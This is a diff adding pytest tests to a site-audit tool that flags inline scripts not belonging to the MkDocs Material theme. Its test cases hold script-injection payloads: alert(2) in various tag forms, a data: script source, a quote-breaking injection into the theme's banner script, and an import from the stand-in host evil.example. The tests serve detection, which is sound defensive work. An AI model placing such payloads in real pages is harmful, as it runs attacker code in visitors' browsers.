@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -82,6 +83,77 @@ def test_each_page_needs_one_h1_and_a_title(tmp_path: Path) -> None:
 def test_script_injection_is_found(tmp_path: Path, markup: str, expected: str) -> None:
     site = make_site(tmp_path, {"index.html": page(body=f"<h1>x</h1>{markup}")})
     assert findings(site) == [expected]
+
+
+TABS = ('var target=document.getElementById(location.hash.slice(1));'
+        'target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))')
+"""Material's script that opens the content tab named in the address (partials/javascripts/content.html)."""
+OUTDATED = ('var el=document.querySelector("[data-md-component=outdated]"),base=new URL("{}"),'
+            'outdated=__md_get("__outdated",sessionStorage,base);!0===outdated&&el&&(el.hidden=!1)')
+"""Material's script that shows a versioned site's banner, with the page's base address in it."""
+
+
+@pytest.mark.parametrize(("markup", "expected"), [
+    ("<script>alert(2)</script>", "index.html:4: <script> runs code not the theme's: alert(2)"),
+    ("<SCRIPT TYPE='text/javascript'>\nalert(2)\n</SCRIPT>", "index.html:4: <script> runs code not the theme's: alert(2)"),
+    ("<script type=' Module '>import('https://evil.example/x.js')</script>",
+     "index.html:4: <script> runs code not the theme's: import('https://evil.example/x.js')"),
+    ("<script language='javascript'>alert(2)</script>", "index.html:4: <script> runs code not the theme's: alert(2)"),
+    ("<svg><script>alert(2)</script></svg>", "index.html:4: <script> runs code not the theme's: alert(2)"),
+    ("<script/>alert(2)</script>", "index.html:4: <script> runs code not the theme's: alert(2)"),
+    ("<p>x</p><script>alert(2)", "index.html:4: <script> runs code not the theme's: alert(2) </body></html>"),
+    ("<script>" + "x=1;" * 20 + "</script>",
+     "index.html:4: <script> runs code not the theme's: " + "x=1;" * 14 + "x=1…"),
+    ("<script src='data:text/javascript,alert(2)'></script>",
+     "index.html:4: <script src> loads its code from a data: address"),
+    # Material's own script, but with a value that leaves its quotes.
+    ("<script>" + OUTDATED.format('."+alert(2)+"') + "</script>",
+     "index.html:4: <script> runs code not the theme's: var el=document.querySelector(\"[data-md-component=outdated]…"),
+])
+def test_inline_scripts_that_are_not_the_themes_are_found(tmp_path: Path, markup: str, expected: str) -> None:
+    site = make_site(tmp_path, {"index.html": page(body=f"<h1>x</h1>{markup}")})
+    assert findings(site) == [expected]
+
+
+def test_the_themes_scripts_extra_javascript_and_data_blocks_pass(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    usual = "\n".join([
+        '<script id="__config" type="application/json">{"base": ".", "x": "<\\/script>"}</script>',
+        '<script src="assets/javascripts/bundle.a5f9d56c.min.js"></script>',
+        '<script src="assets/search/search.js" type="module"></script>',
+        # extra_javascript in mkdocs.yml: any file, on the site or elsewhere.
+        '<script src="https://cdn.example/mathjax.js?a=1&amp;b=2" defer async></script>',
+        f"<script>{TABS}</script>",
+        f"<script>{OUTDATED.format('../..')}</script>",
+    ])
+    other = "\n".join([
+        "<script type=module src=//cdn.example/x.js></script>",
+        "<SCRIPT SRC='x.js'>alert(2)</SCRIPT>",  # a browser runs the file, not the text
+        '<script type="application/ld+json">{"@type": "NewsArticle"}</script>',
+        "<script type='text/plain'><b>alert(2)</b></script>",
+        "<script></script>",
+    ])
+    site = make_site(tmp_path, {"index.html": page(body=f"<h1>x</h1>\n{usual}"),
+                                "other.html": page(body=f"<h1>x</h1>\n{other}")})
+    assert findings(site) == []
+
+    # The usual ones need no parser: nearly every page is told by regular expressions.
+    class NoParser:
+        def __init__(self) -> None:
+            raise AssertionError("parsed")
+
+    monkeypatch.setattr(audit_module, "_PageParser", NoParser)
+    assert audit_module.check_page(site, site / "index.html") == []
+    with pytest.raises(AssertionError, match="parsed"):
+        audit_module.check_page(site, site / "other.html")
+
+
+def test_dateline_overrides_write_only_the_themes_inline_scripts() -> None:
+    overrides = Path(__file__).resolve().parent.parent / "overrides"
+    inline = [body for template in sorted(overrides.rglob("*.html"))
+              for body in re.findall(r"<script>(.*?)</script>", template.read_text(encoding="utf-8"), re.DOTALL)]
+    assert TABS in inline
+    assert [body for body in inline if not audit_module._theme_script(body)] == []
 
 
 def test_sitemap_entries_are_listed_once(tmp_path: Path) -> None:
